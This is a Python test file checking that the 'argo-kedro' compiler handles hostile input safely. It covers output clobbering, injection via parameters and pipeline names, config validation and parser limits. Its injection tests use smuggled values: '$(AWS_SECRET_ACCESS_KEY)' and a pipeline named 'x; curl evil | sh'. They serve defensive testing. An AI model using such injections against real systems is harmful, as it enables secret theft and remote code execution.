"""End-to-end tests of the installed `argo-kedro` on hostile or unlucky input (issue 16; issue 13's
file modes): outputs that never clobber, inputs that cannot inject, parsers that stay bounded.

Each test writes a small Kedro project of its own (`e2e_support.tiny_project`, real Kedro).
"""

from __future__ import annotations

import os
import stat
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest
from e2e_support import binary, run, tiny_project

WORKFLOW = (
    "apiVersion: argoproj.io/v1alpha1\nkind: Workflow\nmetadata: {generateName: x-}\n"
    "spec:\n  entrypoint: main\n  templates:\n  - name: main\n    container: {image: busybox}\n"
)


@pytest.fixture
def project(tmp_path: Path) -> Path:
    return tiny_project(tmp_path / "tiny")


def compile_to(project: Path, *args: str, umask: int | None = None) -> subprocess.CompletedProcess:
    return subprocess.run(
        [binary(), "compile", *args],
        cwd=project,
        env={**os.environ, "KEDRO_DISABLE_TELEMETRY": "1", "ARGO_KEDRO_PYTHON": sys.executable},
        capture_output=True,
        text=True,
        timeout=300,
        umask=-1 if umask is None else umask,
    )


# -- outputs --------------------------------------------------------------------------------------


def test_compile_output_keeps_links_feeds_fifos_and_gets_the_umask_mode(project: Path) -> None:
    expected = run([binary(), "compile"], project)
    assert expected.returncode == 0, expected.stderr

    # A new file: 0644 under umask 022 (not a temporary file's 0600), no temporary file left.
    new = compile_to(project, "-o", "out/wf.yaml", umask=0o022)
    assert new.returncode == 0, new.stderr
    written = project / "out" / "wf.yaml"
    assert stat.S_IMODE(written.stat().st_mode) == 0o644
    assert written.read_text() == expected.stdout
    assert sorted(p.name for p in written.parent.iterdir()) == ["wf.yaml"]

    # A symlink keeps pointing where it did; its target gets the manifest.
    target = project / "real.yaml"
    target.write_text("old\n")
    link = project / "link.yaml"
    link.symlink_to("real.yaml")
    linked = compile_to(project, "-o", "link.yaml")
    assert linked.returncode == 0, linked.stderr
    assert link.is_symlink() and os.readlink(link) == "real.yaml"
    assert target.read_text() == expected.stdout

    # A FIFO feeds its reader and stays a FIFO.
    fifo = project / "pipe"
    os.mkfifo(fifo)
    received: list[str] = []
    reader = threading.Thread(target=lambda: received.append(fifo.read_text()))
    reader.start()
    piped = compile_to(project, "-o", "pipe")
    reader.join(timeout=60)
    assert piped.returncode == 0, piped.stderr
    assert received == [expected.stdout]
    assert stat.S_ISFIFO(fifo.stat().st_mode)

    # A parent that is a file is named as such; nothing is written.
    blocked = compile_to(project, "-o", "real.yaml/wf.yaml")
    assert blocked.returncode == 1
    assert "`real.yaml` is not a directory" in blocked.stderr, blocked.stderr


# -- inputs that could become commands or expressions --------------------------------------------


def test_params_cannot_become_commands_or_expressions(project: Path) -> None:
    escaped = run([binary(), "compile", "--params", "fail=$(AWS_SECRET_ACCESS_KEY)"], project)
    assert escaped.returncode == 0, escaped.stderr
    assert "fail=$$(AWS_SECRET_ACCESS_KEY)" in escaped.stdout
    assert "fail=$(AWS" not in escaped.stdout

    refused = run([binary(), "compile", "--params", "fail={{workflow.name}}"], project)
    assert refused.returncode == 1
    assert "contains `{{`" in refused.stderr, refused.stderr


def test_a_pipeline_named_like_a_shell_command_is_refused(project: Path) -> None:
    registry = project / "src" / "tiny" / "pipeline_registry.py"
    registry.write_text(
        registry.read_text().replace(
            "    return p\n", "    p['x; curl evil | sh'] = p['__default__']\n    return p\n"
        )
    )
    out = run([binary(), "compile", "-p", "x; curl evil | sh"], project)
    assert out.returncode == 1
    assert "cannot be used in a workflow" in out.stderr, out.stderr
    assert "kind: Workflow" not in out.stdout


def test_a_comma_in_a_memory_dataset_name_is_refused(project: Path) -> None:
    pipeline = project / "src" / "tiny" / "pipelines" / "main" / "pipeline.py"
    pipeline.write_text(pipeline.read_text().replace('"mid"', '"mid,doubled"'))
    catalog = project / "conf" / "base" / "catalog.yml"
    kept = [line for line in catalog.read_text().splitlines() if "mid" not in line]
    catalog.write_text("\n".join(kept) + "\n")
    out = run([binary(), "compile"], project)
    assert out.returncode == 1
    assert "dataset `mid,doubled`" in out.stderr and "comma" in out.stderr, out.stderr


# -- argo.yml values and size ---------------------------------------------------------------------


def test_argo_yml_values_the_api_server_refuses_name_their_field(project: Path) -> None:
    argo = project / "conf" / "base" / "argo.yml"
    text = argo.read_text()
    argo.write_text(text.replace("namespace: argo", "namespace: Team_A"))
    out = run([binary(), "compile"], project)
    assert out.returncode == 1
    assert "`namespace` in argo.yml is not a DNS-1123 label" in out.stderr, out.stderr
    assert "nearest valid: `team-a`" in out.stderr

    argo.write_text(text.replace("registry.example/tiny", "Registry.Example/Tiny App"))
    out = run([binary(), "compile"], project)
    assert out.returncode == 1
    assert "`deployment.image` in argo.yml is not an image repository" in out.stderr, out.stderr


def test_an_oversized_manifest_is_called_out(project: Path) -> None:
    argo = project / "conf" / "base" / "argo.yml"
    filler = "x" * 10_000
    env = "".join(f"  - {{name: V{i}, value: {filler}}}\n" for i in range(120))
    argo.write_text(argo.read_text() + "template:\n  environment:\n" + env)
    compiled = run([binary(), "compile", "-o", "wf.yaml"], project)
    assert compiled.returncode == 0, compiled.stderr
    assert "warning: the manifest is" in compiled.stderr
    assert "over the 1.00 MiB Argo accepts" in compiled.stderr
    assert "--group-by" in compiled.stderr

    submitted = run([binary(), "submit", "-e", "base", "--no-build", "--image", "r/x:1"], project)
    assert submitted.returncode == 1
    assert "over the 1.00 MiB Argo accepts" in submitted.stderr
    assert "--force" in submitted.stderr and "API server" in submitted.stderr


# -- parsers --------------------------------------------------------------------------------------


def lint(path: Path) -> tuple[subprocess.CompletedProcess, float]:
    start = time.monotonic()
    out = run([binary(), "lint", str(path)], path.parent)
    return out, time.monotonic() - start


def test_lint_input_is_bounded_and_strict(tmp_path: Path) -> None:
    deep = tmp_path / "deep.yaml"
    deep.write_text("a: " + "[" * 100_000 + "]" * 100_000 + "\n")
    out, took = lint(deep)
    assert out.returncode == 1 and "nests deeper than 128 levels" in out.stdout, out.stdout
    assert took < 5, took

    dup = tmp_path / "dup.yaml"
    dup.write_text(WORKFLOW.replace("metadata:", "kind: Workflow\nmetadata:", 1))
    out, _ = lint(dup)
    assert out.returncode == 1 and "duplicate" in out.stdout, out.stdout

    bom = tmp_path / "bom.yaml"
    bom.write_bytes(b"\xef\xbb\xbf" + WORKFLOW.encode())
    out, _ = lint(bom)
    assert out.returncode == 0, out.stdout + out.stderr

    empty = tmp_path / "empty.yaml"
    empty.write_text("# nothing here\n")
    out, _ = lint(empty)
    assert out.returncode == 1 and "no document" in out.stdout, out.stdout

    out, took = lint(Path("/dev/urandom"))
    assert out.returncode == 1
    lines = out.stderr.strip().splitlines()
    assert len(lines) == 1 and "`/dev/urandom` is not UTF-8 text" in lines[0], out.stderr
    assert took < 5, took
